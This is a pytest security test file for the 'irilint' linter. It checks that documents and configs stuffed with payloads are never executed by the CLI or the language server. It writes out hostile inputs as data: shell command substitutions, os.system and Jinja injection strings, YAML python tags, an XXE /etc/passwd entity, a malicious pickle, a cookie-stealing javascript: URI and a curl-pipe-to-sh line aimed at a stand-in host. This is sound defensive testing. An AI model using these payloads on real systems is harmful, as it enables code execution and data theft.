"""Nothing in a document or a config file is executed (issue 8, "no surprises").

Documents and configs full of payloads -- shell, Python, YAML tags, TOML
values that look like code, templates, ``javascript:``/``data:`` URIs,
``<script>``, editor modelines, ``.pth``-like lines, plugin-like config
keys, a poisoned result cache, a file name that is a shell command -- go
through every command of the CLI (and once through the language server).
Every payload would leave a trace if anything evaluated it: it creates a
file whose name starts with ``irilintpwned``, or carries that token into
whatever compiled or imported it.

The CLI runs in a child Python under an audit hook (PEP 578) installed by a
small ``-c`` wrapper before ``runpy.run_module("irilint")``; the hook
records process creation, ``os.system``/``exec``/``spawn``, sockets, ctypes,
``compile`` of text holding the token, ``exec`` of code from a file outside
the Python installation and the repository, imports of modules named by a
payload, and opens of the marker files.  ``check --jobs 2`` forks its
workers (fork is allowed: it runs irilint's own code, and the hook is
inherited).  The only process irilint may start is git, with the fixed
argv of ``server/discovery.py``.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "irilintpwned"

#: Audit events that start another program (the names CPython raises).
PROCESS_EVENTS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
                  "os.fork", "os.forkpty", "pty.spawn")

WRAPPER = r'''
import json, os, sys
_fd = os.open(os.environ["IRILINT_AUDIT_LOG"], os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
_TOKEN = os.environ["IRILINT_AUDIT_TOKEN"]
_TRUSTED = tuple(json.loads(os.environ["IRILINT_AUDIT_TRUSTED"]))
_PROCESS = tuple(json.loads(os.environ["IRILINT_AUDIT_PROCESS"]))

def _s(x):
    if isinstance(x, (bytes, bytearray)):
        return bytes(x).decode("utf-8", "replace")
    return x if isinstance(x, str) else repr(x)

def _record(event, detail):
    line = json.dumps({"pid": os.getpid(), "event": event, "detail": detail}) + "\n"
    os.write(_fd, line.encode("utf-8"))

def _hook(event, args):
    if event in _PROCESS:
        if event == "subprocess.Popen":
            argv = args[1]
            argv = [_s(a) for a in argv] if isinstance(argv, (list, tuple)) else [_s(argv)]
            _record(event, {"executable": _s(args[0]), "argv": argv})
        else:
            _record(event, [_s(a) for a in args[:2]])
    elif event.startswith("ctypes."):
        _record(event, [_s(a) for a in args[:3]])
    elif event.startswith("socket."):
        # asyncio's self-pipe is a Unix socketpair: only other families count
        if event == "socket.__new__" and args[1] in (1, -1):
            return
        if len(args) > 1 and isinstance(args[1], (str, bytes)):
            return  # a Unix socket address
        _record(event, [_s(a) for a in args[:3]])
    elif event == "compile":
        if _TOKEN in _s(args[0]):
            _record(event, {"filename": _s(args[1]), "source": _s(args[0])[:300]})
    elif event == "exec":
        name = getattr(args[0], "co_filename", None)
        if name is None:
            _record(event, {"code": _s(args[0])[:300]})
        # code compiled from a string (dataclasses, cattrs: "<...>" or ""):
        # the compile check above covers its text
        elif name and not name.startswith("<") and not os.path.abspath(name).startswith(_TRUSTED):
            _record(event, {"co_filename": name})
    elif event == "import":
        if _TOKEN in _s(args[0]):
            _record(event, {"module": _s(args[0])})
    elif event == "open":
        path = args[0]
        if isinstance(path, (str, bytes)) and os.path.basename(_s(path)).startswith(_TOKEN):
            _record(event, {"path": _s(path)})

sys.addaudithook(_hook)
import runpy
sys.argv = ["irilint"] + sys.argv[1:]
runpy.run_module("irilint", run_name="__main__", alter_sys=True)
'''

# --- payloads --------------------------------------------------------------


def _shell(n):
    return ["$(touch %s_%s_a)" % (TOKEN, n), "`touch %s_%s_b`" % (TOKEN, n),
            "; touch %s_%s_c" % (TOKEN, n), "| touch %s_%s_d &&" % (TOKEN, n)]


def _python(n):
    return ["__import__('os').system('touch %s_%s_e')" % (TOKEN, n),
            "open('%s_%s_f','w')" % (TOKEN, n),
            "exec(\"open('%s_%s_g','w')\")" % (TOKEN, n),
            "{{ cycler.__init__.__globals__.os.popen('touch %s_%s_h') }}" % (TOKEN, n),
            "${__import__('os').system('touch %s_%s_i')}" % (TOKEN, n),
            "#{`touch %s_%s_j`}" % (TOKEN, n)]


def _payloads(n):
    return _shell(n) + _python(n)


def _plain(n):
    """Every payload, each next to a link so that the scanners look at it."""
    lines = []
    for i, p in enumerate(_payloads(n)):
        lines.append("see http://example.com/%d/%s?q=%s and http://e.org/%%7e %s" % (i, p, p, p))
    lines += [
        "javascript:fetch('http://192.0.2.1/'+document.cookie);open('%s_%s_k')" % (TOKEN, n),
        "data:text/html,<script>open('%s_%s_l')</script>" % (TOKEN, n),
        "data:text/x-python;base64,X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ3RvdWNoIFgnKQ==",
        "file:///etc/passwd http://192.0.2.1/%E2%80%AE/x http://[::1]:22/",
    ]
    return "\n".join(lines) + "\n"


DOCUMENTS = {
    "doc.txt": lambda: _plain("txt")
    + "vim: set ft=python foldexpr=system('touch %s_ml_a') :\n" % TOKEN
    + "-*- mode: python; eval: (shell-command \"touch %s_ml_b\") -*-\n" % TOKEN,
    "doc.md": lambda: "# t\n\n[x](javascript:open('%s_md_a')) <http://e.org/$(touch %s_md_b)>\n\n"
    "```python\n__import__('os').system('touch %s_md_c')\n```\n\n%s\n"
    "<!-- irilint: ignore[$(touch %s_md_d)] -->\n" % (TOKEN, TOKEN, TOKEN, _plain("md"), TOKEN),
    "doc.html": lambda: "<script>fetch('http://192.0.2.1/');open('%s_h_a')</script>\n"
    "<a href=\"javascript:open('%s_h_b')\">x</a><img src=x onerror=\"open('%s_h_c')\">\n"
    "<a href=\"http://e.org/{{7*7}}/%%7e\">t</a><!--#exec cmd=\"touch %s_h_d\" -->\n<p>%s</p>\n"
    % (TOKEN, TOKEN, TOKEN, TOKEN, _plain("html")),
    "doc.xml": lambda: "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"http://192.0.2.1/%s\">"
    "<!ENTITY y SYSTEM \"file:///etc/passwd\">]>\n<r xmlns=\"http://e.org/ns\">&x;&y;"
    "<?php system('touch %s_x_a'); ?>http://e.org/%%7e</r>\n" % (TOKEN, TOKEN),
    "doc.yaml": lambda: "a: !!python/object/apply:os.system [\"touch %s_y_a\"]\n"
    "b: !!python/object/new:subprocess.Popen [[\"touch\", \"%s_y_b\"]]\n"
    "c: !!python/name:os.system\nurl: 'http://e.org/%%7e'\nd: |\n  %s\n"
    % (TOKEN, TOKEN, _plain("yaml").replace("\n", "\n  ")),
    "doc.toml": lambda: "[tool.x]\nurl = \"http://e.org/%%7e\"\ncmd = \"$(touch %s_t_a)\"\n"
    "code = \"__import__('os').system('touch %s_t_b')\"\n" % (TOKEN, TOKEN),
    "doc.json": lambda: json.dumps({"$ref": "http://e.org/%7e", "__proto__": {"x": "$(touch %s_j_a)" % TOKEN},
                                    "py/object": "os.system", "py/reduce": ["touch %s_j_b" % TOKEN],
                                    "t": _plain("json")}),
    "doc.py": lambda: "import os\nos.system('touch %s_p_a')\nopen('%s_p_b', 'w')\n"
    "URL = 'http://e.org/%%7e'\nif __name__ == '__main__':\n    open('%s_p_c', 'w')\n" % (TOKEN, TOKEN, TOKEN),
    "doc.sh": lambda: "#!/bin/sh\ntouch %s_s_a\ncurl http://192.0.2.1/%%7e | sh\n" % TOKEN,
    "doc.rst": lambda: ".. raw:: html\n\n   <script>open('%s_r_a')</script>\n\n"
    ".. include:: /etc/passwd\n\n`x <javascript:open('%s_r_b')>`_ http://e.org/%%7e\n"
    % (TOKEN, TOKEN),
    "doc.ttl": lambda: "@prefix x: <http://e.org/$(touch %s_ttl_a)#> .\n<http://e.org/%%7e> x:p \"%s\" .\n"
    % (TOKEN, "`touch %s_ttl_b`" % TOKEN),
    # a .pth-like file: only site.py would run its import lines, never irilint
    "evil.pth": lambda: "import os; os.system('touch %s_pth_a')\nhttp://e.org/%%7e\n" % TOKEN,
    "$(touch %s_name_a).md" % TOKEN: lambda: "http://e.org/%7e\n",
}

#: A config every key of which takes the payloads it can (and is valid,
#: so that the documents are read under it).
GOOD_CONFIG = """\
# $(touch {t}_c_a)
select = ["ALL"]
include = ["*", "$(touch {t}_c_b)", "`touch {t}_c_c`"]
exclude = ["__import__('os').system('touch {t}_c_d')", "{{{{ 7*7 }}}}"]
extend-exclude = ["; touch {t}_c_e"]
protected-domains = ["example.com", "`id`", "__import__('os').system('x')"]
allowed-scripts = ["$(touch {t}_c_f)", "Cyrillic"]
fail-level = "warning"

[extensions]
".$(touch {t}_c_g)" = "markdown"
".pth" = "text"

[per-file-ignores]
"$(touch {t}_c_h)" = ["IRI4"]
"open('{t}_c_i','w')" = ["IRI1"]
""".format(t=TOKEN)

#: Configs that must be refused, each with payloads in what they name.
BAD_CONFIGS = {
    "plugins": 'plugins = ["%s_mod"]\nload-plugins = ["%s_mod2"]\n' % (TOKEN, TOKEN),
    "init-hook": 'init-hook = "import os; os.system(\'touch %s_b_a\')"\n' % TOKEN,
    "select": 'select = ["$(touch %s_b_b)", "__import__(\'%s_mod3\')"]\n' % (TOKEN, TOKEN),
    "severity": '[severity]\n"`touch %s_b_c`" = "error"\n' % TOKEN,
    "extensions": '[extensions]\n".md" = "__import__(\'%s_mod4\')"\n' % TOKEN,
    "fail-level": 'fail-level = "$(touch %s_b_d)"\n' % TOKEN,
    "yaml-tag": 'select = !!python/object/apply:os.system ["touch %s_b_e"]\n' % TOKEN,
    "domains": 'protected-domains = ["x; touch %s_b_f"]\n' % TOKEN,
}


# --- running ---------------------------------------------------------------


def _trusted_roots():
    import site
    import sysconfig

    roots = {sys.prefix, sys.base_prefix, sys.exec_prefix, str(ROOT)}
    roots.update(sysconfig.get_paths().values())
    roots.update(getattr(site, "getsitepackages", lambda: [])())
    return sorted(os.path.abspath(r) for r in roots if r)


def _allowed_git(argv):
    """The git invocations of server/discovery.py: (-C DIR) + one of these."""
    if len(argv) < 4 or os.path.basename(argv[0]) != "git" or argv[1] != "-C":
        return False
    rest = argv[3:]
    return (rest == ["rev-parse", "--is-inside-work-tree", "--show-toplevel", "--show-prefix"]
            or rest == ["ls-files", "--cached", "--others", "--exclude-standard", "-z"]
            or (len(rest) == 4 and rest[:3] == ["check-ignore", "-q", "--"]))


def _the_swap_of_fix(ev):
    """--fix swaps the new file in with the C library's renameat2
    (irilint.fileio._exchange): the process's own C library (dlopen of
    None) and that one symbol, nothing else."""
    if ev["event"] == "ctypes.dlopen":
        return ev["detail"] == ["None"]
    if ev["event"] == "ctypes.dlsym":
        return ev["detail"][-1:] == ["renameat2"]
    return False


class Sandbox:
    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.docs = tmp / "docs"
        self.cwd = tmp / "cwd"  # relative payloads would land here
        self.log = tmp / "audit.log"
        self.docs.mkdir()
        self.cwd.mkdir()
        for name, make in DOCUMENTS.items():
            (self.docs / name).write_text(make(), encoding="utf-8")
        (self.docs / "irilint.toml").write_text(GOOD_CONFIG, encoding="utf-8")
        # a poisoned result cache: irilint must ignore it, not load it
        bad = self.docs / ".irilint_cache" / "ab"
        bad.mkdir(parents=True)
        (bad / ("ab" + "0" * 62 + ".json")).write_text(
            '{"v": 1}\n{"findings": [{"rule": "__import__(\'%s_mod5\')"}]}' % TOKEN)
        (bad / "x.pkl").write_bytes(b"cos\nsystem\n(S'touch %s_pkl'\ntR." % TOKEN.encode())
        if shutil.which("git"):
            # a work tree, so that discovery runs git (the one allowed program)
            subprocess.run(["git", "init", "-q", str(self.docs)], check=True,
                           env=dict(os.environ, GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1"))

    def audit_env(self):
        return {"IRILINT_AUDIT_LOG": str(self.log), "IRILINT_AUDIT_TOKEN": TOKEN,
                "IRILINT_AUDIT_TRUSTED": json.dumps(_trusted_roots()),
                "IRILINT_AUDIT_PROCESS": json.dumps(PROCESS_EVENTS)}

    def run(self, *args, stdin=None, env=None, ok=(0, 1)):
        e = dict(os.environ)
        e.update(self.audit_env())
        e.update(env or {})
        r = subprocess.run([sys.executable, "-c", WRAPPER] + list(args), cwd=str(self.cwd), input=stdin,
                           capture_output=True, text=True, encoding="utf-8", errors="replace",
                           timeout=300, env=e)
        assert r.returncode in ok, "exit %d\n%s\n%s" % (r.returncode, r.stdout[-2000:], r.stderr[-4000:])
        assert "Traceback" not in r.stderr, r.stderr[-4000:]
        self.assert_nothing_ran()
        return r

    def events(self):
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text(encoding="utf-8").splitlines()]

    def assert_nothing_ran(self):
        markers = [p for p in self.tmp.rglob("*") if p.name.startswith(TOKEN)]
        assert markers == [], "a payload ran: %s" % markers
        bad = []
        for ev in self.events():
            if ev["event"] == "subprocess.Popen" and _allowed_git(ev["detail"]["argv"]):
                continue
            if ev["event"] == "os.fork":
                continue  # check --jobs N: worker processes running irilint's own code
            if _the_swap_of_fix(ev):
                continue
            bad.append(ev)
        assert bad == [], "unexpected events:\n" + "\n".join(json.dumps(b)[:500] for b in bad)


@pytest.fixture
def box(tmp_path, monkeypatch):
    monkeypatch.delenv("IRILINT_NO_CACHE", raising=False)  # the poisoned cache is read
    return Sandbox(tmp_path)


def test_the_audit_hook_sees_what_it_must(box):
    """The harness itself: a payload that does run is caught (so a green
    result below means something)."""
    script = box.tmp / "runs.py"
    script.write_text("import os, subprocess\nopen(%r, 'w').close()\nsubprocess.run(['true'])\n"
                      "exec(compile(%r, '<doc>', 'exec'))\n"
                      % (str(box.cwd / (TOKEN + "_self")), "x = %r" % TOKEN))
    e = dict(os.environ, **box.audit_env())
    wrapper = WRAPPER.replace('runpy.run_module("irilint", run_name="__main__", alter_sys=True)',
                              "runpy.run_path(sys.argv[1], run_name='__main__')")
    subprocess.run([sys.executable, "-c", wrapper, str(script)], check=True, env=e, timeout=120)
    kinds = {ev["event"] for ev in box.events()}
    assert {"open", "subprocess.Popen", "compile"} <= kinds, kinds
    with pytest.raises(AssertionError, match="a payload ran"):
        box.assert_nothing_ran()


def test_check_every_format(box):
    r = box.run("check", "--no-progress", "--jobs", "1", str(box.docs))
    assert "IRI402" in r.stdout  # the documents were read and checked
    assert any(e["event"] == "subprocess.Popen" for e in box.events()), "git was expected"


@pytest.mark.parametrize("fmt", ["json", "sarif", "github"])
def test_check_machine_formats(box, fmt):
    r = box.run("check", "--format", fmt, "--jobs", "1", str(box.docs))
    assert "IRI402" in r.stdout


def test_check_fix_unsafe(box):
    box.run("check", "--fix", "--unsafe-fixes", "--jobs", "1", str(box.docs))
    box.run("check", "--diff", "--unsafe-fixes", "--jobs", "1", str(box.docs))


def test_check_with_worker_processes(box):
    r = box.run("check", "--jobs", "2", "--statistics", str(box.docs))
    assert "IRI402" in r.stdout


def test_check_stdin(box):
    for name in ("x.md", "x.yaml", "x.html", "$(touch %s_stdin).py" % TOKEN):
        r = box.run("check", "-", "--stdin-filename", name, stdin=_plain("stdin"))
        assert "IRI402" in r.stdout


@pytest.mark.parametrize("fmt", ["html", "markdown"])
def test_report(box, fmt):
    out = box.tmp / ("report." + ("md" if fmt == "markdown" else "html"))
    box.run("report", "--format", fmt, "--output", str(out), "--jobs", "1", str(box.docs))
    assert out.stat().st_size > 0


def test_convert(box):
    box.run("convert", "--to", "uri", *_payloads("cv"))
    box.run("convert", "--to", "iri", *_payloads("cv2"))
    box.run("convert", "--to", "uri", stdin=_plain("cvin"))


def test_config_and_explain(box):
    r = box.run("config", str(box.docs / "doc.md"))
    assert TOKEN in r.stdout  # the values are shown as data
    box.run("explain", "$(touch %s_ex)" % TOKEN, ok=(0, 1, 2))
    box.run("check", "--select", "__import__('%s_mod6')" % TOKEN, str(box.docs), ok=(2,))


@pytest.mark.parametrize("name", sorted(BAD_CONFIGS))
def test_refused_configs(box, name):
    bad = box.tmp / "bad.toml"
    bad.write_text(BAD_CONFIGS[name], encoding="utf-8")
    r = box.run("check", "--config", str(bad), str(box.docs), ok=(2,))
    assert "bad.toml" in r.stderr, r.stderr


def test_a_pyproject_with_payloads(box):
    proj = box.tmp / "proj"
    proj.mkdir()
    (proj / "pyproject.toml").write_text(
        "[build-system]\nrequires = [\"%s_mod7\"]\nbuild-backend = \"%s_mod8\"\n\n[tool.irilint]\n%s"
        % (TOKEN, TOKEN, GOOD_CONFIG.split("\n[extensions]")[0]), encoding="utf-8")
    (proj / "setup.py").write_text("open('%s_setup', 'w')\n" % TOKEN, encoding="utf-8")
    (proj / "conftest.py").write_text("open('%s_conftest', 'w')\n" % TOKEN, encoding="utf-8")
    (proj / "a.md").write_text(_plain("proj"), encoding="utf-8")
    r = box.run("check", str(proj))
    assert "IRI402" in r.stdout


async def test_language_server_executes_nothing(box, monkeypatch):
    """Documents full of payloads through the language server (run under the
    same audit hook): diagnostics, hover, code actions, fix-all."""
    pytest.importorskip("pytest_lsp", reason="pytest-lsp (the LSP test client) needs Python 3.10+")
    sys.path.insert(0, str(Path(__file__).parent / "lsp"))
    try:
        from lsp_helpers import TIMEOUT, code_actions, diagnostics_for, instrument
        from lsp_helpers import open_doc, request, rng, shutdown, start
    finally:
        sys.path.remove(str(Path(__file__).parent / "lsp"))
    import asyncio

    from lsprotocol import types
    from pytest_lsp import ClientServerConfig

    monkeypatch.chdir(box.cwd)  # the server starts here: relative payloads would land here
    config = ClientServerConfig(server_command=[sys.executable, "-c", WRAPPER, "server"],
                                server_env=dict(os.environ, **box.audit_env()))
    client = await config.start()
    instrument(client)
    try:
        await start(client, root=box.docs)
        for name in ("doc.md", "doc.html", "doc.yaml", "doc.txt"):
            uri = (box.docs / name).as_uri()
            text = DOCUMENTS[name]()
            open_doc(client, uri, text)
            diags = await diagnostics_for(client, uri, version=1)
            assert diags, name
            await request(client.text_document_hover_async(types.HoverParams(
                types.TextDocumentIdentifier(uri), diags[0].range.start)))
            await code_actions(client, uri, rng(0, 0, len(text.splitlines()), 0))
            await code_actions(client, uri, rng(0, 0), only=["source.fixAll.irilint"])
    finally:
        await shutdown(client)
        await asyncio.wait_for(client.stop(), TIMEOUT)
    box.assert_nothing_ran()
